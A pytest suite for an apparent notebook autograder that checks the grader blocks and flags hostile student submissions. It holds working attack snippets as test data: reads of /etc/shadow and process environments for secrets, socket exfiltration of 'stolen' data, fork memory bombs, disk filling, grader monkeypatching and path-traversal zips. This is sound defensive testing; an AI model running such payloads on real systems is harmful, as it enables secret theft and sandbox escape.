"""The grader against hostile submissions (issue 15): every attack earns nothing, leaks nothing,
flags its submitter, leaves no process behind, and the class is still graded and written.

One class is graded once (module fixture) with a private key whose hidden cases carry
distinctive numbers; it holds the honest key (full marks, no flag) and one folder per
attack, each built from the real student notebook. The grader's own environment carries
a secret that no submission may see. Listeners on this machine (UDP, TCP, a unix socket)
record whatever a notebook manages to send. Sandbox properties (no network, nothing of
the host visible) need bubblewrap: where it cannot run the grader says so and those
tests are skipped with that reason.
"""

from __future__ import annotations

import csv
import io
import json
import os
import secrets
import socket
import tempfile
import textwrap
import threading
import zipfile
from pathlib import Path

import nbformat
import psutil
import pytest

from sepsislab.exercises import build as B
from sepsislab.exercises.practices import get
from sepsislab.grading import intake, isolation
from sepsislab.grading.grade import Limits, grade_class, load_hidden, read_roster
from sepsislab.grading.source import analyse

pytestmark = [pytest.mark.notebooks, pytest.mark.xdist_group("grading-attacks")]
BWRAP, WHY_NOT = isolation.bwrap_status()
needs_bwrap = pytest.mark.skipif(not BWRAP, reason=f"bubblewrap cannot run here: {WHY_NOT}")
SECRET = "s3cr3t-" + secrets.token_hex(6)
#: The private hidden cases of pump_rate: numbers that appear nowhere else.
HIDDEN_PUMP = [{"dose_ug_kg_min": 0.0873, "weight_kg": 77.7, "concentration_ug_ml": 91.3},
               {"dose_ug_kg_min": 0.2468, "weight_kg": 58.3, "concentration_ug_ml": 64.1}]
WRONG = {"map_mmhg": "1e6", "svr": "1e6", "shock_index": "1e6", "svr_class": '"wrong"', "shock_kind": '"wrong"'}


def _notebook(name: str, student_id: str, *cells: str, answers: dict | None = None, key: bool = False):
    """The student notebook (or the key) of ``name``, with ``cells`` added after the start cell and
    ``answers`` put in place of the ``...`` stubs."""
    nb = B.key_notebook(name) if key else B.student_notebook(name)
    next(c for c in nb.cells if c.source.startswith("STUDENT_ID")).source = f"STUDENT_ID = {student_id!r}"
    defined = {line[4:].split("(")[0] for code in cells for line in code.splitlines() if line.startswith("def ")}
    nb.cells = [c for c in nb.cells if not any(c.source.startswith(f"def {name}(") for name in defined)]
    start = next(i for i, c in enumerate(nb.cells) if "start(" in c.source)
    for k, code in enumerate(cells, 1):   # a function defined here replaces the notebook's stub of it
        nb.cells.insert(start + k, nbformat.v4.new_code_cell(textwrap.dedent(code).strip()))
    for c in nb.cells:
        for var, value in (answers or {}).items():
            if c.source.strip() == f"{var} = ...":
                c.source = f"{var} = {value}"
    return nb


def _listeners(root: Path):
    """UDP, TCP and unix-socket listeners on this machine; what they receive goes into ``got``."""
    got: list = []
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(5)
    unix_path = str(root / "listener.sock")
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.bind(unix_path)
    unix.listen(5)
    for s in (udp, tcp, unix):
        s.settimeout(0.5)

    def serve(sock, stream):
        while not stop.is_set():
            try:
                if stream:
                    conn, _ = sock.accept()
                    got.append(conn.recv(100))
                    conn.close()
                else:
                    got.append(sock.recv(100))
            except OSError:
                continue

    stop = threading.Event()
    threads = [threading.Thread(target=serve, args=(s, st), daemon=True) for s, st in ((udp, 0), (tcp, 1), (unix, 1))]
    for t in threads:
        t.start()
    ports = {"udp": udp.getsockname()[1], "tcp": tcp.getsockname()[1], "unix": unix_path}
    return got, ports, lambda: (stop.set(), [s.close() for s in (udp, tcp, unix)])


BANK_EXPECTED = """
from sepsislab.exercises.practices import get
p = get("haemodynamics")
answers = {q.var: q.expected(case) for q in p.questions}
"""

BANK_REFERENCE = """
import importlib
bank = importlib.import_module("sepsislab.exercises.practices.norepinephrine")
pump_rate = bank.PRACTICE.question("q5").reference
"""

FLAGS_OFF = """
import sys, builtins
sys.modules["sepsislab.grading.extract"]._flags = lambda ns: []
builtins.abs = lambda x: 0
abs = lambda x: 0
"""


def _reader(paths: list[str]) -> str:
    return f"""
import os
leaked = []
for target in {paths!r} + ["/etc/shadow", "/root/.bash_history"]:
    try:
        leaked.append(open(target).read()[:30])
    except Exception:
        pass
for folder in {sorted({str(Path(p).parent) for p in paths})!r}:
    try:
        leaked += os.listdir(folder)
    except Exception:
        pass
import importlib, pathlib, sepsislab
for module in ("sepsislab.grading.grade", "sepsislab.exercises.practices.haemodynamics"):
    try:
        importlib.import_module(module)
        leaked.append(module)
    except Exception:
        pass
for part in ("exercises/practices/haemodynamics.py", "grading/grade.py"):
    try:
        leaked.append((pathlib.Path(sepsislab.__file__).parent / part).read_text()[:30])
    except Exception:
        pass
for pid in os.listdir("/proc"):
    for part in ("environ", "cmdline"):
        try:
            if "s3cr3t-" in open(f"/proc/{{pid}}/{{part}}", errors="replace").read():
                leaked.append(pid)
        except Exception:
            pass
"""


def _sender(ports: dict) -> str:
    return f"""
import socket
sent = []
payload = b"stolen"
for attempt in ("udp", "udp-out", "tcp", "unix", "raw"):
    try:
        if attempt == "udp":
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(payload, ("127.0.0.1", {ports['udp']}))
        elif attempt == "udp-out":
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(payload, ("192.0.2.1", 53))
        elif attempt == "tcp":
            s = socket.create_connection(("127.0.0.1", {ports['tcp']}), timeout=2); s.sendall(payload)
        elif attempt == "unix":
            s = socket.socket(socket.AF_UNIX); s.connect({ports['unix']!r}); s.sendall(payload)
        else:
            socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
        sent.append(attempt)
    except Exception:
        pass
"""


FORK_MEMORY = """
import os, time
children = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        hog = b"x" * (700 << 20)     # written, so really resident
        time.sleep(10)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""

FILL_SCRATCH = """
written = 0
try:
    for i in range(40):
        with open(f"blob{i}", "wb") as fh:
            fh.write(b"0" * (16 << 20))
        written += 16
except OSError:
    pass
"""

LEAK_INPUTS = """
import sys
def pump_rate(**kwargs):
    seen = [v for v in sys._getframe(1).f_locals.values() if isinstance(v, list)]
    raise RuntimeError(repr(kwargs) + repr(seen)[:150])
"""

LEAK_TYPE = """
def pump_rate(dose_ug_kg_min, weight_kg, concentration_ug_ml):
    raise type(f"E{dose_ug_kg_min}_{weight_kg}_{concentration_ug_ml}".replace(".", "p"), (Exception,), {})()
"""

FLOOD = """
from IPython.display import display
for _ in range(60):
    display({"application/vnd.sepsislab.answers+json": {"nonce": "x", "answers": {"q1": {"value": 1}}, "pad": "a" * 1000000}}, raw=True)
    print("b" * 1000000)
"""


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    key = root / "key"
    key.mkdir()
    hidden = load_hidden(None)
    hidden["norepinephrine"]["q5"] = HIDDEN_PUMP
    (key / "hidden.json").write_text(json.dumps(hidden))
    subs, out, grading_tmp = root / "submissions", root / "out", root / "tmp"
    grading_tmp.mkdir()
    got, ports, stop = _listeners(root)
    alice = subs / "alice_key"
    honest = {"haemodynamics": _notebook("haemodynamics", "alice_key", key=True),
              "norepinephrine": _notebook("norepinephrine", "alice_key", key=True)}
    alice_case = get("haemodynamics").case_for("alice_key")
    copied = {q.var: repr(q.expected(alice_case)) for q in get("haemodynamics").questions}
    numbers = {q.var: copied[q.var] for q in get("haemodynamics").questions if q.kind == "number"}
    H, N = "haemodynamics", "norepinephrine"
    attacks = {
        ("bank_expected", H): _notebook(H, "bank_expected", BANK_EXPECTED,
                                        answers={v: f"answers[{v!r}]" for v in WRONG}),
        ("bank_reference", N): _notebook(N, "bank_reference", BANK_REFERENCE),
        ("flags_off", H): _notebook(H, "flags_off", FLAGS_OFF, answers=WRONG),
        ("reader", H): _notebook(H, "reader", _reader([str(alice / f"{H}.ipynb"), str(key / "hidden.json"),
                                                       str(B.exercises_dir() / "source" / f"{H}.md")]),
                                 answers={**WRONG, "svr_class": '"leaked" if leaked else "blocked"'}),
        ("sender", H): _notebook(H, "sender", _sender(ports),
                                 answers={**WRONG, "svr_class": '"escaped" if "tcp" in sent or "unix" in sent '
                                                               'or "raw" in sent or "udp-out" in sent else "blocked"'}),
        ("blank_lines", H): _notebook(H, "blank_lines", "# padding" + "\n" * 60_000 + "map_mmhg = 1 / 0", answers={
            k: v for k, v in WRONG.items() if k != "map_mmhg"}),
        ("huge_cell", H): _notebook(H, "huge_cell", "# padding" + "\n" * 600_000 + "x = 1", answers=copied),
        ("fork_memory", H): _notebook(H, "fork_memory", FORK_MEMORY, answers=WRONG),
        ("fill_scratch", H): _notebook(H, "fill_scratch", FILL_SCRATCH, answers={**WRONG, "map_mmhg": "written"}),
        ("leak_inputs", N): _notebook(N, "leak_inputs", LEAK_INPUTS),
        ("leak_type", N): _notebook(N, "leak_type", LEAK_TYPE),
        ("impersonator", H): _notebook(H, "alice_key", answers={**WRONG, **numbers}),
        ("flood", H): _notebook(H, "flood", FLOOD, answers=WRONG),
        ("xf", H): _notebook(H, "xavier", key=True),   # a rostered folder: folder "xf" is student "xavier"
    }
    for name, nb in honest.items():
        alice.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, alice / f"{name}.ipynb")
    for (student, name), nb in attacks.items():
        (subs / student).mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, subs / student / f"{name}.ipynb")
    for student, target in (("link_stdin", "/dev/stdin"), ("link_zero", "/dev/zero"),
                            ("link_classmate", str(alice / f"{H}.ipynb"))):
        (subs / student).mkdir()
        (subs / student / f"{H}.ipynb").symlink_to(target)
    (subs / "fifo").mkdir()
    os.mkfifo(subs / "fifo" / f"{H}.ipynb")
    (subs / "link_folder").symlink_to(alice)
    before = {p: p.read_bytes() for p in alice.iterdir()}

    roster = {d.name: d.name for d in subs.iterdir() if not d.is_symlink()} | {"xf": "xavier"}
    old_tmp, os.environ["SEPSISLAB_ATTACK_SECRET"] = tempfile.tempdir, SECRET
    tempfile.tempdir = str(grading_tmp)
    messages: list = []
    try:
        grades = grade_class(subs, out / "grades.csv", limits=Limits(timeout=90, cpu_seconds=60, scratch_mb=64),
                             jobs=2, key=key, practices=(H, N), progress=messages.append, roster=roster)
    finally:
        tempfile.tempdir = old_tmp
        del os.environ["SEPSISLAB_ATTACK_SECRET"]
        stop()
    rows = list(csv.DictReader((out / "grades.csv").open(encoding="utf-8")))
    feedback = {p.stem: p.read_text(encoding="utf-8") for p in (out / "feedback").glob("*.md")}
    return dict(rows=rows, out=out, feedback=feedback, got=got, before=before, alice=alice, grades=grades,
                grading_tmp=grading_tmp, messages=messages, roster=roster)


def _student(attacked, student, exercise="haemodynamics"):
    rows = [r for r in attacked["rows"] if r["student"] == student and r["exercise"] == exercise]
    assert len(rows) == len(get(exercise).questions), student
    return rows, " | ".join(r["note"] for r in rows)


def test_the_honest_key_scores_full_marks_without_flags(attacked):
    for exercise in ("haemodynamics", "norepinephrine"):   # norepinephrine: with the private hidden cases
        rows, notes = _student(attacked, "alice_key", exercise)
        assert all(r["points"] == r["max_points"] for r in rows), notes
        assert "FLAG" not in notes


def test_the_roster_decides_who_a_folder_is(attacked):
    rows, notes = _student(attacked, "xf")
    assert all(r["points"] == r["max_points"] for r in rows), notes
    assert "FLAG" not in notes, "the notebook says xavier, and the roster says folder xf is xavier"


ATTACKS = {   # student → (exercise, words that must be in its notes)
    "bank_expected": ("haemodynamics", ["FLAG: imports the answer logic (sepsislab.exercises.practices)",
                                        "ImportError"]),
    "bank_reference": ("norepinephrine", ["FLAG: imports importlib", "ModuleNotFoundError"]),
    "flags_off": ("haemodynamics", ["FLAG: cell 3 uses sys.modules", "FLAG: cell 3 patches builtins.abs",
                                    "rebinds `abs`"]),
    "reader": ("haemodynamics", ["FLAG: cell 3 names paths outside its folder", '"blocked" is not one of the options']),
    "sender": ("haemodynamics", ["FLAG: imports socket", '"blocked" is not one of the options']),
    "blank_lines": ("haemodynamics", ["the cell defining `map_mmhg` (cell 3) raised ZeroDivisionError"]),
    "huge_cell": ("haemodynamics", ["FLAG: cell 3 holds 585 KB of code", "at most 64 KB"]),
    "fork_memory": ("haemodynamics", ["FLAG: cell 3 uses os.fork", "memory limit"]),
    "fill_scratch": ("haemodynamics", ["FLAG: filled its scratch space", "disk limit"]),
    "leak_inputs": ("norepinephrine", ["FLAG: cell 3: `pump_rate` takes *args/**kwargs", "uses sys._getframe"]),
    "leak_type": ("norepinephrine", ["FLAG: cell 3 creates a class at run time with type()"]),
    "impersonator": ("haemodynamics", ["FLAG: the notebook says STUDENT_ID 'alice_key', but it is "
                                       "'impersonator''s submission"]),
    "link_stdin": ("haemodynamics", ["FLAG: haemodynamics.ipynb is a symbolic link", "not followed"]),
    "link_zero": ("haemodynamics", ["FLAG: haemodynamics.ipynb is a symbolic link", "not followed"]),
    "link_classmate": ("haemodynamics", ["FLAG: haemodynamics.ipynb is a symbolic link", "not followed"]),
    "fifo": ("haemodynamics", ["FLAG: haemodynamics.ipynb is a special file", "not a regular file"]),
    "flood": ("haemodynamics", []),
}


@pytest.mark.parametrize("student", sorted(ATTACKS))
def test_each_attack_earns_nothing_and_flags_its_submitter(attacked, student):
    exercise, words = ATTACKS[student]
    rows, notes = _student(attacked, student, exercise)
    assert all(float(r["points"]) == 0 for r in rows), notes
    for w in words:
        assert w in notes, notes
    if student not in ("flood", "blank_lines"):   # these two only try to exhaust the grader: bounded, not flagged
        assert "FLAG" in notes


@needs_bwrap
def test_nothing_of_the_host_is_readable_from_a_notebook(attacked):
    feedback = "\n".join(attacked["feedback"].values())
    assert SECRET not in feedback and SECRET not in (attacked["out"] / "grades.csv").read_text()
    _rows, notes = _student(attacked, "reader")
    assert '"blocked" is not one of the options' in notes, notes


@needs_bwrap
def test_nothing_leaves_the_sandbox_over_any_socket(attacked):
    assert attacked["got"] == []
    _rows, notes = _student(attacked, "sender")
    assert '"blocked" is not one of the options' in notes, notes


def test_hidden_cases_reveal_nothing_in_the_feedback(attacked):
    for student in ("leak_inputs", "leak_type"):
        text = attacked["feedback"][student]
        assert "hidden test fails" in text
        for case in HIDDEN_PUMP:
            for value in case.values():
                for shown in (repr(value), str(value).replace(".", "p")):
                    assert shown not in text, f"{student}: hidden input {shown} in the feedback"


def test_a_symlinked_folder_is_not_graded_as_a_student(attacked):
    assert not [r for r in attacked["rows"] if r["student"] == "link_folder"]
    assert any("link_folder: a symbolic link" in m for m in attacked["messages"])


def test_the_impersonated_classmate_is_not_flagged(attacked):
    for exercise in ("haemodynamics", "norepinephrine"):
        _rows, notes = _student(attacked, "alice_key", exercise)
        assert "FLAG" not in notes


def test_the_classmates_files_are_untouched_and_the_class_is_whole(attacked):
    for path, content in attacked["before"].items():
        assert path.read_bytes() == content
    students = {r["student"] for r in attacked["rows"]}
    expected = set(attacked["roster"])
    assert students == expected
    assert attacked["messages"][-1].startswith("wrote ")


def test_no_process_or_scratch_is_left_behind(attacked):
    marker = str(attacked["grading_tmp"])
    left = []
    for proc in psutil.process_iter(["pid", "cmdline"]):
        if any(marker in arg for arg in proc.info["cmdline"] or []):
            left.append(proc.pid)
    assert left == []
    assert list(attacked["grading_tmp"].iterdir()) == []


@needs_bwrap
def test_the_grading_kernel_runs_under_bubblewrap_here():
    assert isolation.describe().startswith("sandbox: bubblewrap")


# -- grader-side reading, without a kernel ------------------------------------------------

def test_the_code_of_a_large_cell_is_read_in_one_linear_pass():
    """What cost 118 s with a regex (issue 15) is one ast parse; a cell over the cap is refused."""
    report = analyse([(3, "\n" * 60_000 + "map_mmhg = 1 / 0")])
    assert "map_mmhg" in report.defines[3] and report.flags == []
    raw = nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("\n" * 600_000)])).encode()
    with pytest.raises(intake.Refused, match="at most 64 KB"):
        intake.parse_notebook(raw)


def _zip(path: Path, entries: dict, links: dict | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
        for name, target in (links or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o120777 << 16)
            zf.writestr(info, target)
    return path


def test_collect_unpacks_one_folder_per_student_and_refuses_crafted_zips(tmp_path):
    zips, klass = tmp_path / "zips", tmp_path / "class"
    zips.mkdir()
    nb = nbformat.writes(B.student_notebook("dic")).encode()
    _zip(zips / "dic-ann.zip", {"ann/dic.ipynb": nb})
    _zip(zips / "dic-eve.zip", {"eve/dic.ipynb": nb, "../ann/dic.ipynb": b"pwned", "/tmp/evil.ipynb": b"pwned",
                                "eve/../../outside.ipynb": b"pwned", "eve/sofa.ipynb": b"0" * (40 << 20)},
         links={"eve/haemodynamics.ipynb": "/etc/shadow"})
    _zip(zips / "dic-mallory.zip", {"ann/dic.ipynb": b"pwned"})   # claims ann's folder
    report = intake.collect(zips, klass, ("dic", "sofa", "haemodynamics"))
    text = "\n".join(report)
    assert (klass / "ann" / "dic.ipynb").read_bytes() == nb
    assert (klass / "eve" / "dic.ipynb").read_bytes() == nb
    assert not (klass / "eve" / "haemodynamics.ipynb").exists() and not (klass / "eve" / "sofa.ipynb").exists()
    assert not (tmp_path / "outside.ipynb").exists() and not Path("/tmp/evil.ipynb").exists()
    assert sorted(p.name for p in klass.iterdir()) == ["ann", "eve"]
    for words in ("'../ann/dic.ipynb' refused (a path outside its folder)", "'/tmp/evil.ipynb' refused",
                  "'eve/haemodynamics.ipynb' refused (a symbolic link)", "'eve/sofa.ipynb' refused",
                  "dic-mallory.zip: ann/dic.ipynb exists already (another zip); not overwritten"):
        assert "FLAG: " in text and words in text, text


def test_collect_takes_the_submitter_from_the_platforms_folder(tmp_path):
    zips, klass = tmp_path / "zips", tmp_path / "class"
    (zips / "Jane Doe_1234").mkdir(parents=True)
    nb = nbformat.writes(B.student_notebook("dic")).encode()
    _zip(zips / "Jane Doe_1234" / "dic-bob.zip", {"bob/dic.ipynb": nb})   # says bob; the platform says Jane
    intake.collect(zips, klass, ("dic",))
    assert (klass / "Jane_Doe_1234" / "dic.ipynb").read_bytes() == nb
    assert not (klass / "bob").exists()


def test_a_roster_with_one_identifier_for_two_folders_is_refused(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_text("folder,student_id\nf1,ann\nf2,ann\n")
    with pytest.raises(ValueError, match="ann"):
        read_roster(path)
    path.write_text("name,folder,email,student_id\nAnn A,f1,a@x.org,ann\nBob B,f2,b@x.org,bob\n")
    assert read_roster(path) == {"f1": "ann", "f2": "bob"}   # the export's LMS columns may sit beside
    path.write_text("f1,ann\nf2,bob\n")
    assert read_roster(path) == {"f1": "ann", "f2": "bob"}


def test_the_feedback_of_a_hidden_case_names_no_input():
    q = get("norepinephrine").question("q5")
    case = get("norepinephrine").case_for("x")
    public = len(q.cases(case))
    calls = [{"value": 0.0}] * public + [{"raised": "RuntimeError: {'weight_kg': 77.7}"}, {"value": "77.7"}]
    r = q.grade({"calls": calls}, case, HIDDEN_PUMP)
    assert r.message.count("a hidden test fails") == 2 and "77.7" not in r.message
    assert "RuntimeError" not in r.message.split("a hidden test fails")[-1]
    io.StringIO(r.message)   # plain text


@pytest.mark.skipif(isolation.landlock_abi() < 1, reason="Landlock is not available on this kernel")
def test_the_fallback_without_bubblewrap_still_hides_the_question_bank(tmp_path):
    """Where bubblewrap cannot run, Landlock keeps the question bank and the grader unreadable."""
    from sepsislab.grading.grade import grade_notebook

    folder = tmp_path / "bank_expected"
    folder.mkdir()
    nb = _notebook("haemodynamics", "bank_expected", BANK_EXPECTED + "\nmap_mmhg = answers['map_mmhg']")
    nbformat.write(nb, folder / "haemodynamics.ipynb")
    g = grade_notebook("bank_expected", folder, "haemodynamics", load_hidden(None), Limits(timeout=90),
                       mode="fallback")
    assert sum(r.points for r in g.results) == 0
    assert any("imports the answer logic" in f for f in g.flags)
    assert any("ImportError" in n or "PermissionError" in n for n in g.notes), g.notes
